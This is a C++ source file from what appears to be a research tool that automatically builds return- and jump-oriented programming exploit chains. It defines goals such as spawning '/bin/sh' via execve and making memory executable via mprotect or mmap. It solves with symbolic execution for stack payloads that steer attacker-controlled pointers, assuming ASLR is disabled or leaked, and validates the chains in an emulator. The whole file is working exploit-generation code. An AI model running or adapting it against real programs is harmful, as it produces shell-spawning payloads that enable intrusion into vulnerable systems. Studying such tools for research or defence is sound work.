#include "payload/payload.hpp"

#include <algorithm>
#include <unordered_map>

#include "lift/lift.hpp"
#include "support/rng.hpp"
#include "support/trace.hpp"

namespace gp::payload {

using gadget::EndKind;
using gadget::Record;
using solver::ExprRef;
using x86::Reg;

Goal Goal::execve() {
  Goal g;
  g.name = "execve";
  g.syscall_no = 59;
  g.regs = {
      {Reg::RAX, RegTarget::Kind::Const, 59, {}},
      {Reg::RDI, RegTarget::Kind::PointerToBytes, 0,
       {'/', 'b', 'i', 'n', '/', 's', 'h', 0}},
      {Reg::RSI, RegTarget::Kind::Const, 0, {}},
      {Reg::RDX, RegTarget::Kind::Const, 0, {}},
  };
  return g;
}

Goal Goal::mprotect() {
  Goal g;
  g.name = "mprotect";
  g.syscall_no = 10;
  g.regs = {
      {Reg::RAX, RegTarget::Kind::Const, 10, {}},
      {Reg::RDI, RegTarget::Kind::Const, image::kDataBase, {}},
      {Reg::RSI, RegTarget::Kind::Const, 0x1000, {}},
      {Reg::RDX, RegTarget::Kind::Const, 7, {}},
  };
  return g;
}

Goal Goal::mmap() {
  Goal g;
  g.name = "mmap";
  g.syscall_no = 9;
  g.regs = {
      {Reg::RAX, RegTarget::Kind::Const, 9, {}},
      {Reg::RDI, RegTarget::Kind::Const, 0, {}},
      {Reg::RSI, RegTarget::Kind::Const, 0x1000, {}},
      {Reg::RDX, RegTarget::Kind::Const, 7, {}},
      {Reg::R10, RegTarget::Kind::Const, 0x22, {}},
      {Reg::R8, RegTarget::Kind::Const, static_cast<u64>(-1), {}},
      {Reg::R9, RegTarget::Kind::Const, 0, {}},
  };
  return g;
}

const std::vector<Goal>& Goal::all() {
  static const std::vector<Goal> goals = {execve(), mprotect(), mmap()};
  return goals;
}

std::vector<Goal> Goal::by_name(const std::string& name) {
  if (name == "all") return all();
  for (const Goal& g : all())
    if (g.name == name) return {g};
  return {};
}

namespace {

/// Re-execute a gadget's recorded path on a shared symbolic state,
/// collecting branch-decision constraints. Returns the final Flow.
sym::Flow replay(sym::Executor& exec, solver::Context& ctx, sym::State& st,
                 const Record& g, std::vector<ExprRef>& constraints) {
  sym::Flow flow;
  for (const gadget::PathStep& step : g.path) {
    flow = exec.step(st, lift::lift(step.inst));
    if (flow.kind == ir::JumpKind::CondDirect)
      constraints.push_back(step.branch_taken ? flow.cond
                                              : ctx.bnot(flow.cond));
  }
  return flow;
}

}  // namespace

ConcretizeResult concretize(solver::Context& ctx, const gadget::Library& lib,
                            const image::Image& img,
                            const std::vector<u32>& ordered, const Goal& goal,
                            const ConcretizeOptions& opts) {
  GP_CHECK(!ordered.empty(), "concretize: empty chain");
  GP_CHECK(lib[ordered.back()].end == EndKind::Syscall,
           "concretize: chain must end in a syscall gadget");

  ConcretizeResult r;
  auto refuted = [&r](Refutation why) {
    r.why = why;
    return r;
  };

  // Everything below builds expressions and steps the symbolic executor,
  // any of which can exhaust a governed budget; the catch at the end turns
  // that into a failed (never partial) concretization.
  try {
  sym::Executor exec(ctx, &img);
  exec.set_governor(opts.governor);
  sym::State st = exec.initial_state();
  std::vector<ExprRef> constraints;

  for (size_t i = 0; i < ordered.size(); ++i) {
    const Record& g = lib[ordered[i]];
    const sym::Flow flow = replay(exec, ctx, st, g, constraints);
    if (i + 1 < ordered.size()) {
      // Link: this gadget's transfer must land on the next gadget.
      if (flow.kind != ir::JumpKind::Indirect)
        return refuted(Refutation::BadFlow);
      constraints.push_back(ctx.eq(
          flow.target_expr, ctx.constant(lib[ordered[i + 1]].addr, 64)));
    } else if (flow.kind != ir::JumpKind::Syscall) {
      return refuted(Refutation::BadFlow);
    }
  }

  // Stack reads at non-negative offsets come from the attacker payload.
  // Reads BELOW the hijacked rsp (un-initialized callee locals of merged
  // call gadgets) see memory the attacker does not control; the validator
  // guarantees it is zero, so pin those variables to zero.
  std::vector<i64> offsets;
  for (const i64 off : st.stack_reads) {
    if (off >= 0) {
      offsets.push_back(off);
    } else {
      constraints.push_back(ctx.eq(ctx.var(sym::stack_var(off).view(), 64),
                                   ctx.constant(0, 64)));
    }
  }

  // Goal register constraints; POINTER targets allocate payload slots past
  // every offset the chain consumes.
  i64 next_free =
      offsets.empty() ? 0 : (*std::max_element(offsets.begin(),
                                               offsets.end()) + 8);
  const ExprRef rsp0 = ctx.var(sym::initial_reg_var(Reg::RSP), 64);

  // POINTER redirection (paper Sec. IV-B): loads through attacker-derivable
  // pointers are steered into the payload. Reads sharing a symbolic base
  // have FIXED relative offsets (e.g. [rbp-248] and [rbp-264]), so each
  // base gets one contiguous payload region and the base is aimed so that
  // every read lands inside it.
  {
    struct BaseGroup {
      std::vector<std::pair<const sym::IndirectRead*, i64>> reads;
      i64 min_off = 0, max_off = 0;
      bool has_span = false;
    };
    std::unordered_map<ExprRef, BaseGroup> groups;
    for (const sym::IndirectRead& ir : st.ind_reads) {
      // If the address is already pinned once rsp is fixed (e.g. a read of
      // the stack through `mov eax, esp`), do NOT aim it at a fresh region:
      // bind the read to whatever actually lives there — a payload slot in
      // the controlled window, image bytes, or zeroed memory.
      const ExprRef probed =
          ctx.substitute(ir.addr, rsp0, ctx.constant(opts.stack_base, 64));
      if (ctx.is_const(probed)) {
        const u64 a = ctx.const_val(probed);
        if (a >= opts.stack_base &&
            a + ir.width / 8 <= opts.stack_base + kMaxPayload) {
          const i64 off = static_cast<i64>(a - opts.stack_base);
          const i64 slot = off & ~i64{7};
          const unsigned bit_off = static_cast<unsigned>(off & 7) * 8;
          if (bit_off + ir.width <= 64) {
            offsets.push_back(slot);
            next_free = std::max(next_free, slot + 8);
            const ExprRef sv = ctx.var(sym::stack_var(slot).view(), 64);
            constraints.push_back(ctx.eq(
                ir.var, ir.width == 64
                            ? sv
                            : ctx.extract(sv, static_cast<u8>(bit_off),
                                          ir.width)));
          }
          continue;
        }
        // Outside the payload: image bytes or zero-filled memory.
        u64 value = 0;
        for (unsigned k = 0; k < ir.width / 8u; ++k) {
          u8 byte = 0;
          const u64 ba = a + k;
          if (img.in_code(ba)) {
            byte = img.code_at(ba)[0];
          } else if (ba >= img.data_base() &&
                     ba < img.data_base() + img.data().size()) {
            byte = img.data()[ba - img.data_base()];
          }
          value |= static_cast<u64>(byte) << (8 * k);
        }
        constraints.push_back(
            ctx.eq(ir.var, ctx.constant(value, ir.width)));
        continue;
      }
      const auto bo = sym::split_base_offset(ctx, ir.addr);
      if (!bo || bo->base == solver::kNoExpr) continue;  // const: resolved
      auto& grp = groups[bo->base];
      if (grp.reads.empty() && !grp.has_span) {
        grp.min_off = grp.max_off = bo->offset;
        grp.has_span = true;
      } else {
        grp.min_off = std::min(grp.min_off, bo->offset);
        grp.max_off = std::max(grp.max_off, bo->offset);
      }
      grp.reads.push_back({&ir, bo->offset});
    }
    // Writes through aimed (or aimable) pointers must land inside their
    // base's region too — otherwise they clobber chain payload the memory
    // model could not see (different symbolic base).
    for (const auto& w : st.writes) {
      const auto bo = sym::split_base_offset(ctx, w.addr);
      if (!bo || bo->base == solver::kNoExpr) continue;
      const ExprRef probed =
          ctx.substitute(w.addr, rsp0, ctx.constant(opts.stack_base, 64));
      if (ctx.is_const(probed)) continue;   // rsp0-relative: fully modeled
      if (bo->base == rsp0) continue;
      auto it = groups.find(bo->base);
      if (it == groups.end()) {
        // Write-only base: aimable only when payload/register-derived.
        bool derivable = true;
        for (const ExprRef v : ctx.variables(bo->base)) {
          const std::string_view name = ctx.var_name(v);
          if (sym::parse_stack_var(name) || name.rfind("ind", 0) == 0)
            continue;
          if (!sym::is_initial_reg_var(name)) derivable = false;
        }
        if (!derivable) continue;  // uncontrolled: validation arbitrates
        it = groups.emplace(bo->base, BaseGroup{}).first;
      }
      auto& grp = it->second;
      if (!grp.has_span) {
        grp.min_off = grp.max_off = bo->offset;
        grp.has_span = true;
      } else {
        grp.min_off = std::min(grp.min_off, bo->offset);
        grp.max_off = std::max(grp.max_off, bo->offset);
      }
    }
    for (auto& [base, grp] : groups) {
      const i64 span = grp.max_off - grp.min_off + 8;
      if (span > static_cast<i64>(kMaxPayload))
        return refuted(Refutation::TooBig);
      const i64 region = next_free;
      next_free += (span + 7) & ~i64{7};
      // Aim the base so the lowest read lands at the region start.
      constraints.push_back(ctx.eq(
          base, ctx.add(rsp0, ctx.constant(region - grp.min_off, 64))));
      for (const auto& [ir, off] : grp.reads) {
        const i64 rel = off - grp.min_off;
        const i64 slot = (region + rel) & ~i64{7};
        const unsigned bit_off =
            static_cast<unsigned>((region + rel) & 7) * 8;
        offsets.push_back(slot);
        const ExprRef slot_var = ctx.var(sym::stack_var(slot).view(), 64);
        if (bit_off + ir->width <= 64) {
          constraints.push_back(ctx.eq(
              ir->var, ir->width == 64
                           ? slot_var
                           : ctx.extract(slot_var, static_cast<u8>(bit_off),
                                         ir->width)));
        }
        // Reads straddling a slot boundary stay unconstrained (the solver
        // free-picks; emulator validation rejects if it mattered).
      }
    }
  }
  struct PointerSlot {
    i64 offset;
    std::vector<u8> bytes;
  };
  std::vector<PointerSlot> pointer_slots;

  for (const RegTarget& t : goal.regs) {
    const ExprRef final = st.regs[static_cast<int>(t.reg)];
    if (t.kind == RegTarget::Kind::Const) {
      if (ctx.is_const(final) && ctx.const_val(final) != t.value)
        r.mismatch_reg = t.reg;
      constraints.push_back(ctx.eq(final, ctx.constant(t.value, 64)));
    } else {
      GP_CHECK(t.bytes.size() <= 8, "pointer payload must fit one slot");
      const i64 slot = next_free;
      next_free += 8;
      pointer_slots.push_back({slot, t.bytes});
      constraints.push_back(
          ctx.eq(final, ctx.add(rsp0, ctx.constant(slot, 64))));
      u64 word = 0;
      for (size_t k = 0; k < t.bytes.size(); ++k)
        word |= static_cast<u64>(t.bytes[k]) << (8 * k);
      constraints.push_back(ctx.eq(ctx.var(sym::stack_var(slot).view(), 64),
                                   ctx.constant(word, 64)));
      offsets.push_back(slot);
    }
  }

  // Pin the stack base (threat model: ASLR off / leaked) and the initial
  // flags (the validator starts from a cleared flag state).
  constraints.push_back(ctx.eq(rsp0, ctx.constant(opts.stack_base, 64)));
  for (int f = 0; f < ir::kNumFlags; ++f) {
    const ExprRef fv =
        ctx.var(sym::initial_flag_var(static_cast<ir::Flag>(f)), 1);
    constraints.push_back(ctx.bnot(fv));
  }

  solver::Solver solver(ctx, /*conflict_budget=*/500'000, opts.governor,
                        solver::Caller::Concretize);
  solver::Model model;
  const solver::SatResult sat = solver.check(constraints, &model);
  if (sat != solver::SatResult::Sat) {
    // An UNKNOWN answer (budget, deadline, injected fault) is a failure —
    // but not an UNSAT: the sequence might work with more budget.
    return refuted(sat == solver::SatResult::Unknown ? Refutation::Unknown
                                                     : Refutation::Unsat);
  }

  // Payload = model values of the consumed stack slots.
  const i64 payload_len = next_free;
  if (payload_len < 0 ||
      static_cast<size_t>(payload_len) > kMaxPayload)
    return refuted(Refutation::TooBig);
  std::vector<u8> payload(static_cast<size_t>(payload_len), 0);
  auto place = [&](i64 off, u64 word) {
    for (int k = 0; k < 8; ++k)
      if (off + k < payload_len)
        payload[off + k] = static_cast<u8>(word >> (8 * k));
  };
  std::sort(offsets.begin(), offsets.end());
  offsets.erase(std::unique(offsets.begin(), offsets.end()), offsets.end());
  for (const i64 off : offsets) {
    const ExprRef var = ctx.var(sym::stack_var(off).view(), 64);
    auto it = model.find(var);
    place(off, it == model.end() ? 0 : it->second);
  }

  Chain chain;
  chain.goal_name = goal.name;
  chain.gadgets = ordered;
  chain.payload = std::move(payload);
  chain.entry = lib[ordered.front()].addr;
  for (const u32 gi : ordered) {
    const Record& g = lib[gi];
    chain.total_insts += g.n_insts;
    if (g.has_cond_jump) ++chain.cj_gadgets;
    else if (g.end == EndKind::Ret) ++chain.ret_gadgets;
    else if (g.end == EndKind::IndJmp || g.end == EndKind::IndCall)
      ++chain.ij_gadgets;
    if (g.has_direct_jump && !g.has_cond_jump) ++chain.dj_gadgets;
  }

  // End-to-end validation with randomized uncontrolled registers.
  {
    trace::Span span("plan.validate", "planner", opts.session_id);
    for (int trial = 0; trial < kValidationTrials; ++trial) {
      if (!validate(img, chain, goal, opts.stack_base,
                    0xc0ffee + 7919 * trial))
        return refuted(Refutation::ValidationFailed);
    }
  }
  r.chain = std::move(chain);
  return r;
  } catch (const ResourceExhausted&) {
    return refuted(Refutation::ResourceCut);
  }
}

bool validate(const image::Image& img, const Chain& chain, const Goal& goal,
              u64 stack_base, u64 reg_seed) {
  emu::Emulator e(img);
  Rng rng(reg_seed);
  for (int i = 0; i < x86::kNumRegs; ++i) {
    const Reg r = static_cast<Reg>(i);
    if (r == Reg::RSP) continue;
    // Uncontrolled registers get arbitrary (but canonical-address-sized)
    // values: a payload must not depend on them.
    e.set_reg(r, rng.next() & 0x7fffffffffffULL);
  }
  e.set_reg(Reg::RSP, stack_base);
  e.memory().write_bytes(stack_base, chain.payload);
  e.set_rip(chain.entry);

  const auto result = e.run(200'000);
  if (result.reason != emu::StopReason::Syscall) return false;
  if (result.syscall_no != goal.syscall_no) return false;
  for (const RegTarget& t : goal.regs) {
    const u64 v = e.reg(t.reg);
    if (t.kind == RegTarget::Kind::Const) {
      if (v != t.value) return false;
    } else {
      const auto mem = e.memory().read_bytes(v, t.bytes.size());
      if (!std::equal(t.bytes.begin(), t.bytes.end(), mem.begin()))
        return false;
    }
  }
  return true;
}

}  // namespace gp::payload
